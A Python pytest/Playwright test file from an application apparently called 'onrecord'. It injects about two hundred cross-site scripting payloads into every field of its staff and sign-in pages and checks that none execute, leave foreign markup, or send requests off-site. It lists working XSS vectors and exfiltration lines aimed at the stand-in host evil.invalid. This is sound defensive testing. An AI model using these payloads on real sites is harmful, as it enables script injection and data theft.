"""200 hostile payloads in every field of every page of the desk: nothing runs, nothing foreign stands, nobody is asked."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import Browser
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route
from tests.browser.test_exfiltration import CHANNELS
from tests.fakes import fake_core
from tests.web.test_desk_pages import ELEMENTS, everywhere

from onrecord.storage.accounts import Accounts
from onrecord.types import Account
from onrecord.web.app import build_app
from onrecord.web.core import Exposure
from onrecord.web.desk import html_page
from onrecord.web.desk_html import page as whole
from onrecord.web.signin import sign_in_page

SINK = "http://evil.invalid/x"
VECTORS = [
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<details open ontoggle=window.hacked=1>x</details>",
    "<input autofocus onfocus=window.hacked=1>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<a href=javascript:window.hacked=1 autofocus tabindex=1 onfocus=window.hacked=1>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    "<video><source onerror=window.hacked=1></video>",
    "<body onpageshow=window.hacked=1>",
    "<object data=javascript:window.hacked=1></object>",
    "<style>@import 'http://evil.invalid/s.css'; body{background:url(http://evil.invalid/b)}</style>",
    "<link rel=stylesheet href=http://evil.invalid/l.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/r'>",
    "<base href=http://evil.invalid/>",
    "<form action=http://evil.invalid/f><button autofocus>x</button></form>",
    "onfocus=window.hacked=1 autofocus tabindex=1 x=",
    "<xss style=animation-name:x onanimationstart=window.hacked=1>",
]
FRAMES = [
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "-->{}",
    '" {} "',
    "' {} '",
    "\u202e{}\u2066",
]
PAYLOADS = [frame.format(vector) for vector in VECTORS for frame in FRAMES]
PAYLOADS += [channel.format(sink=SINK, host="evil.invalid") for channel in CHANNELS.values()]
AT_ONCE = 15
WORDS = "four or five good words"


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory, serve: Callable[[Callable[[], Starlette]], str]) -> str:
    """The real server, with one more page: all parts of all pages, each with some of the payloads in every field."""
    accounts = Accounts(tmp_path_factory.mktemp("accounts") / "accounts.json")
    accounts.add("ann", "staff", WORDS)

    async def hostile(request: Request) -> Response:
        at = int(request.path_params["at"])
        bodies = [part for one in PAYLOADS[at : at + AT_ONCE] for part in everywhere(one)]
        # A page has one of each id; here they only need to be markup that Chromium reads.
        return html_page(whole(PAYLOADS[at], "".join(bodies), here="check", account=Account(PAYLOADS[at], "staff")))

    async def sign_in(request: Request) -> Response:
        one = PAYLOADS[int(request.path_params["at"])]
        return html_page(sign_in_page(one, one))

    def build() -> Starlette:
        exposure = Exposure(reads=100_000, questions=100_000)
        core = fake_core(verify=accounts.verify, account=accounts.find)
        app = build_app(core, examples=[], about="1 article.", exposure=exposure)
        app.router.routes[:0] = [Route("/staff/hostile/{at}", hostile), Route("/staff/hostile-sign-in/{at}", sign_in)]
        return app

    return serve(build)


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 200


@pytest.mark.parametrize("policy", ["under the policy", "without it"])
def test_nothing_runs_nothing_foreign_stands_and_nobody_is_asked(browser: Browser, address: str, policy: str) -> None:
    """Without the policy, too: what holds the payloads back is that they stay text."""
    context = browser.new_context(bypass_csp=policy == "without it")
    page = context.new_page()
    asked: list[str] = []
    page.on("request", lambda one: asked.append(one.url))
    page.goto(f"{address}/sign-in")
    page.get_by_label("Name").fill("ann")
    page.get_by_label("Password").fill(WORDS)
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_load_state()
    paths = [f"hostile/{at}" for at in range(0, len(PAYLOADS), AT_ONCE)]
    paths += [f"hostile-sign-in/{at}" for at in range(0, len(PAYLOADS), len(FRAMES) + 1)]
    for path in paths:
        page.goto(f"{address}/staff/{path}")
        page.wait_for_timeout(50)
        found = page.evaluate(LOOK, sorted(ELEMENTS))
        assert found == {"hacked": False, "elements": [], "attributes": [], "links": []}, path
        assert page.locator("h1").count() == 1
    context.close()
    assert [
        one for one in asked if not one.startswith((f"{address}/", "blob:", "data:text/csv", "data:application/json"))
    ] == []


LOOK = """(elements) => {
    const all = [...document.querySelectorAll('main *')];
    const allowed = new Set([...elements, 'h1']);
    const links = all.flatMap((each) => [each.getAttribute('href'), each.getAttribute('action')]);
    const known = /^(blob:|[/](staff|article|sign-in)(?![^/?])|data:(text[/]csv|application[/]json);base64,)/;
    return {
        hacked: 'hacked' in window,
        elements: [...new Set(all.map((each) => each.localName).filter((name) => !allowed.has(name)))],
        attributes: [...new Set(all.flatMap((each) => each.getAttributeNames())
            .filter((name) => name.startsWith('on') || ['style', 'src', 'srcset', 'srcdoc', 'formaction'].includes(name)))],
        links: [...new Set(links.filter((link) => link !== null && !known.test(link)))],
    };
}"""
